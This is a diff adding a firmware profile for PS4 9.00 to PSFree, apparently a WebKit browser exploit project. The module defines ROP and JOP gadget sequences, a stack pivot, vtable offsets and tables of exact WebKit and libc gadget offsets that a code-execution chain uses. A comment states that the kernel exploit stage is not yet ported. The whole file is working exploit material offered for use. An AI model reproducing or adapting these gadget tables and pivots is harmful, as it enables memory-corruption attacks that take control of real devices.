@@ -0,0 +1,128 @@
+/* Copyright (C) 2023 anonymous
+
+This file is part of PSFree.
+
+PSFree is free software: you can redistribute it and/or modify
+it under the terms of the GNU Affero General Public License as
+published by the Free Software Foundation, either version 3 of the
+License, or (at your option) any later version.
+
+PSFree is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU Affero General Public License for more details.
+
+You should have received a copy of the GNU Affero General Public License
+along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
+
+// firmware profile for PS4 9.00, see module/profiles.mjs
+//
+// by janisslsm (John) from ps4-dev discord
+
+import { ta_jop1, jop3, jop5 } from '../rop_gadgets.mjs';
+
+const ta_jop2 = `
+pop rsi
+jmp qword ptr [rax + 0x1c]
+`;
+const ta_jop3 = `
+mov rdi, qword ptr [rax + 8]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 0x30]
+`;
+const jop2 = `
+push rbp
+mov rbp, rsp
+mov rax, qword ptr [rdi]
+call qword ptr [rax + 0x58]
+`;
+const jop4 = `
+push rdx
+jmp qword ptr [rax]
+`;
+const pivot = 'pop rsi; jmp qword ptr [rax + 0x1c]';
+
+export const profile = {
+    id : 'ps4_9_00',
+    name : 'PS4 9.00',
+
+    jmp_buf_size : 0xc8,
+
+    jop : {
+        ta_jop1,
+        ta_jop2,
+        ta_jop3,
+        jop2,
+        jop3,
+        jop4,
+        jop5,
+        pivot,
+    },
+    vtable : {
+        scroll_left : 0x1b8,
+        ta_jop2 : 0xb8,
+        ta_jop3 : 0x1c,
+    },
+    rax_ptrs : {
+        jop2 : 0x30,
+        jop3 : 0x58,
+        jop4 : 0x10,
+        jop5 : 0,
+        rsp : 0x18,
+    },
+    pivot_slot : 0x1c,
+
+    webkit_gadget_offsets : new Map(Object.entries({
+        'pop rax; ret' : 0x0000000000051a12,
+        'pop rbx; ret' : 0x00000000000be5d0,
+        'pop rcx; ret' : 0x00000000000657b7,
+        'pop rdx; ret' : 0x000000000000986c,
+
+        'pop rbp; ret' : 0x00000000000000b6,
+        'pop rsi; ret' : 0x000000000001f4d6,
+        'pop rdi; ret' : 0x0000000000319690,
+        'pop rsp; ret' : 0x000000000004e293,
+
+        'pop r8; ret' : 0x00000000001a7ef1,
+        'pop r9; ret' : 0x0000000000422571,
+        'pop r10; ret' : 0x0000000000e9e1d1,
+        'pop r11; ret' : 0x0000000000620df9,
+
+        'pop r12; ret' : 0x000000000085ec71,
+        'pop r13; ret' : 0x00000000001da461,
+        'pop r14; ret' : 0x000000000001f4d5,
+        'pop r15; ret' : 0x000000000031968f,
+
+        'ret' : 0x0000000000000032,
+        'leave; ret' : 0x000000000008db5b,
+
+        'neg rax; and rax, rcx; ret' : 0x00000000019771c4,
+        'adc esi, esi; ret' : 0x000000000148874e,
+        'add rax, rdx; ret' : 0x00000000003f662c,
+        'push rsp; jmp qword ptr [rax]' : 0x0000000002bae87f,
+        'add rcx, rsi; and rdx, rcx; or rax, rdx; ret' : 0x0000000001b1ed66,
+        [pivot] : 0x00000000021fce7e,
+
+        'mov qword ptr [rdi], rsi; ret' : 0x0000000000040300,
+        'mov rax, qword ptr [rax]; ret' : 0x00000000000241cc,
+        'mov qword ptr [rdi], rax; ret' : 0x000000000000613b,
+        'mov dword ptr [rdi], eax; ret' : 0x000000000000613c,
+        'mov rdx, rcx; ret' : 0x000000000157fe71,
+
+        [jop2] : 0x0000000000683800,
+        [jop3] : 0x0000000000303906,
+        [jop4] : 0x00000000028bd332,
+
+        [ta_jop1] : 0x00000000004e62a4,
+        [ta_jop2] : 0x00000000021fce7e,
+        [ta_jop3] : 0x00000000019becb4,
+    })),
+    libc_gadget_offsets : new Map(Object.entries({
+        'neg rax; ret' : 0x00000000000d3f03,
+        'mov rdx, rax; xor eax, eax; shl rdx, cl; ret' : 0x00000000000cefd9,
+        'mov qword ptr [rsi], rcx; ret' : 0x00000000000cf982,
+    })),
+
+    // the kernel exploit is not ported to this firmware yet
+    kernel : null,
+};